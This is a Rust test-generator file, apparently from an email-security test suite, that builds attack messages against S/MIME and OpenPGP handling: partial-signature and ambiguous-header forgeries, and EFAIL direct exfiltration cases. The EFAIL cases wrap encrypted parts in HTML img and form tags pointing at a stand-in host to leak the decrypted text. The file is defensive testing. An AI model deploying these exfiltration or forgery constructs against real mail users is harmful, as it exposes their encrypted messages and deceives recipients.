//! What attackers build around an object: parts before it, behind it, and around it.

use crate::mail::{container, headers, html, multipart_signed, object, signature_part, signed_by};
use crate::people::Cast;
use crate::sealed::{Sealed, content_key, pkcs1};
use crate::signed::{CONTENT, Signed};
use crate::suite::{Suite, opens, refuses, says};

const SIGNED: &str = "signed/good-detached.eml";
const SEALED: &str = "decrypt/good-gcm.eml";
const FOOTER: &str = "Content-Type: text/plain\r\n\r\nPlease pay Carol a hundred.\r\n";

pub(crate) fn forge(cast: &Cast, suite: &mut Suite) {
    around_encrypted(cast, suite);
    around_signed(cast, suite);
    inside_signed(cast, suite);
    open_pgp(suite);
    encrypted_headers(cast, suite);
}

/// EFAIL, direct exfiltration: an encrypted part in company is never opened.
fn around_encrypted(cast: &Cast, suite: &mut Suite) {
    let sealed = Sealed::gcm(vec![pkcs1(&cast.bob, &content_key(32))]).build();
    let part = object("", &sealed);
    let (before, behind) = (html("<img src=\"http://example.com/"), html("\">"));
    let form =
        (html("<form action=\"http://example.com/\"><textarea name=\"t\">"), html("</textarea></form>"));
    let carried = format!("Content-Type: message/rfc822\r\n\r\n{}{part}", headers());
    let cases: [(&str, String); 7] = [
        ("mixed", container("mixed", &[&before, &part, &behind])),
        ("related", container("related", &[&before, &part, &behind])),
        ("alternative", container("alternative", &[&before, &part])),
        ("form", container("mixed", &[&form.0, &part, &form.1])),
        ("rfc822", container("mixed", &[&before, &carried, &behind])),
        ("unterminated", container("mixed", &[&before, &part]).replace("--outer--\r\n", "")),
        ("single", container("mixed", &[&part])),
    ];
    for (name, entity) in cases {
        let mail = headers() + &entity;
        let what = format!("EFAIL direct exfiltration: an encrypted part in {name}");
        suite.attack(&format!("efail/{name}.eml"), refuses("not-encrypted"), SEALED, &what, mail.clone());
        let path = format!("efail/{name}-verify.eml");
        suite.attack(&path, says("unsigned", "nested-encryption"), SEALED, &what, mail);
    }
    let signed_around = signed_by(&cast.mallory, container("mixed", &[&before, &part, &behind]).trim_end());
    suite.attack(
        "efail/inside-signed.eml",
        refuses("not-encrypted"),
        SEALED,
        "covert content: an encrypted part of another mail inside a signed one, to be quoted in the answer",
        headers() + &signed_around,
    );
}

/// Only a part is signed: the verdict of the whole is never verified.
fn around_signed(cast: &Cast, suite: &mut Suite) {
    let good = signed_by(&cast.alice, CONTENT);
    let partial = || says("checked", "partial");
    let mut add = |name: &str, what: &str, required, entity: String| {
        suite.attack(&format!("partial/{name}.eml"), required, SIGNED, what, headers() + &entity);
    };
    add("prepended", "text before the signed part", partial(), container("mixed", &[FOOTER, &good]));
    add("appended", "text behind the signed part", partial(), container("mixed", &[&good, FOOTER]));
    add("list-footer", "a list's footer", partial(), container("mixed", &[&good, FOOTER]));
    add(
        "alternative",
        "an alternative to the signed part",
        partial(),
        container("alternative", &[&good, &html("<b>Pay 100</b>")]),
    );
    add(
        "related",
        "HTML that hides the signed part",
        partial(),
        container("related", &[&html("<b>Pay 100</b>"), &good]),
    );
    add(
        "preamble",
        "a preamble",
        partial(),
        good.replacen("\r\n\r\n--signed", "\r\n\r\nPay a hundred.\r\n--signed", 1),
    );
    add("epilogue", "an epilogue", partial(), format!("{good}Pay a hundred.\r\n"));
    let carried = format!("Content-Type: message/rfc822\r\n\r\n{}{good}", headers());
    add(
        "rfc822",
        "a signed mail is carried, the carrier is not signed",
        says("unsigned", "not-signed"),
        carried,
    );
    let third = good.replace("\r\n--signed--", &format!("\r\n--signed\r\n{FOOTER}\r\n--signed--"));
    add("third-part", "a third part in multipart/signed", says("invalid", "malformed"), third);
    let before = good.replacen("--signed\r\n", &format!("--signed\r\n{FOOTER}\r\n--signed\r\n"), 1);
    add("first-part", "another first part in multipart/signed", says("invalid", "malformed"), before);
    let only = good.split("\r\n--signed\r\nContent-Type: application").next().unwrap_or_default().to_owned();
    add(
        "no-signature",
        "multipart/signed without a signature",
        says("invalid", "malformed"),
        only + "\r\n--signed--\r\n",
    );

    let twice = good.replacen("boundary=\"signed\"", "boundary=\"signed\"; boundary=\"other\"", 1)
        + "--other\r\nContent-Type: text/plain\r\n\r\nPay a hundred.\r\n--other--\r\n";
    let mut add = |name: &str, what: &str, verdicts: [&str; 2], entity: String| {
        let required = opens(&format!("{}|{}|unsigned", verdicts[0], verdicts[1]), "-").for_verify("1");
        suite.attack(&format!("ambiguous/{name}.eml"), required, SIGNED, what, headers() + &entity);
    };
    add(
        "boundary-twice",
        "two boundaries: programs differ in which they take",
        ["checked", "invalid"],
        twice,
    );
    let plain = format!("Content-Type: text/plain\r\n{good}");
    add("content-type-twice", "two Content-Type fields, the plain one first", ["checked", "invalid"], plain);
    let plain = good.replacen("\r\n\r\n", "\r\nContent-Type: text/plain\r\n\r\n", 1);
    add(
        "content-type-twice-last",
        "two Content-Type fields, the plain one last",
        ["checked", "invalid"],
        plain,
    );
}

/// The signed content itself is a trick.
fn inside_signed(cast: &Cast, suite: &mut Suite) {
    let mut changed = signed_by(&cast.alice, CONTENT);
    changed = changed.replace("ten, not a hundred", "a hundred, not ten");
    let required = says("invalid", "content-changed");
    suite.attack(
        "signed/changed-content.eml",
        required.clone(),
        SIGNED,
        "the text is changed",
        headers() + &changed,
    );
    let type_changed = signed_by(&cast.alice, CONTENT).replacen("text/plain", "text/html", 1);
    suite.attack(
        "signed/changed-type.eml",
        required,
        SIGNED,
        "the type of the signed part is changed",
        headers() + &type_changed,
    );
    let signature = Signed::good(&cast.alice, CONTENT.as_bytes()).detached().build();
    let wrong_protocol = multipart_signed(CONTENT, &signature).replacen(
        "protocol=\"application/pkcs7-signature\"",
        "protocol=\"application/pgp-signature\"",
        1,
    );
    let required = says("invalid", "malformed").or("unsigned");
    suite.attack(
        "signed/wrong-protocol.eml",
        required,
        SIGNED,
        "the protocol names OpenPGP",
        headers() + &wrong_protocol,
    );
    let part = signature_part(&signature);
    let nothing = format!(
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"signed\"\r\n\r\n\
         --signed\r\n{part}\r\n--signed--\r\n"
    );
    suite.attack(
        "signed/signature-alone.eml",
        says("invalid", "malformed"),
        SIGNED,
        "multipart/signed of the signature alone",
        headers() + &nothing,
    );
}

/// OpenPGP without integrity: not our format, and never decrypted by way of another.
fn open_pgp(suite: &mut Suite) {
    let encrypted = |armored: &str| {
        format!(
            "{}Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"outer\"\r\n\r\n\
             --outer\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--outer\r\n\
             Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n{armored}\r\n\
             -----END PGP MESSAGE-----\r\n\r\n--outer--\r\n",
            headers()
        )
    };
    // Symmetrically Encrypted Data (tag 9), and version 1 with integrity (tag 18) cut short of it.
    let packet = |tag: u8, body: &[u8]| {
        let packet = [&[0xc0 | tag, body.len() as u8][..], body].concat();
        crate::keys::base64(&packet, "\r\n")
    };
    let noise = crate::primitives::derived("OpenPGP", 48);
    let plain = encrypted(&packet(9, &noise));
    suite.attack(
        "efail/openpgp-sed.eml",
        refuses("not-encrypted"),
        SEALED,
        "OpenPGP data without any integrity protection",
        plain,
    );
    let cut = encrypted(&packet(18, &[&[1], &noise[..30]].concat()));
    suite.attack(
        "efail/openpgp-no-mdc.eml",
        refuses("not-encrypted"),
        SEALED,
        "OpenPGP data whose integrity protection is cut off",
        cut,
    );
}

/// Fields outside of the encryption are the carrier's to write.
fn encrypted_headers(cast: &Cast, suite: &mut Suite) {
    let inner = format!(
        "{}Content-Type: text/plain; hp=\"cipher\"\r\n\r\nSee you on Monday.\r\n",
        headers().replace("MIME-Version: 1.0\r\n", "")
    );
    let signed = object("signed-data", &Signed::good(&cast.alice, inner.as_bytes()).build());
    let sealed = |content: &str| {
        let mut sealed = Sealed::gcm(vec![pkcs1(&cast.bob, &content_key(32))]);
        let (ciphertext, tag) =
            crate::primitives::gcm(&content_key(32), &crate::sealed::nonce(12), &[], content.as_bytes());
        (sealed.ciphertext, sealed.tag) = (ciphertext, tag);
        object("", &sealed.build())
    };
    let twin = "protected/good-sealed.eml";
    suite.good(
        twin,
        opens("verified", "chain"),
        "signed, then sealed, with protected fields",
        headers() + &sealed(&signed),
    );
    let added = headers().replacen("To:", "Reply-To: mallory@example.org\r\nTo:", 1);
    suite.attack(
        "protected/reply-to.eml",
        opens("verified|checked", "Reply-To"),
        twin,
        "the carrier adds Reply-To: it is listed as unprotected",
        added + &sealed(&signed),
    );
    let other = headers().replace("From: Alice <alice@example.org>", "From: Mallory <mallory@example.org>");
    suite.attack(
        "protected/sealed-from.eml",
        opens("mismatch", "from-differs"),
        twin,
        "the carrier changes From",
        other + &sealed(&signed),
    );
    let forwarded = inner.replace("To: bob@example.org", "To: carol@example.org");
    let signed = object("signed-data", &Signed::good(&cast.alice, forwarded.as_bytes()).build());
    let outside = headers().replace("To: bob@example.org", "To: carol@example.org");
    suite.attack(
        "protected/forwarded.eml",
        opens("checked", "not-addressed-to-reader"),
        twin,
        "surreptitious forwarding: alice wrote to carol, carol sealed it for bob",
        outside + &sealed(&signed),
    );
}
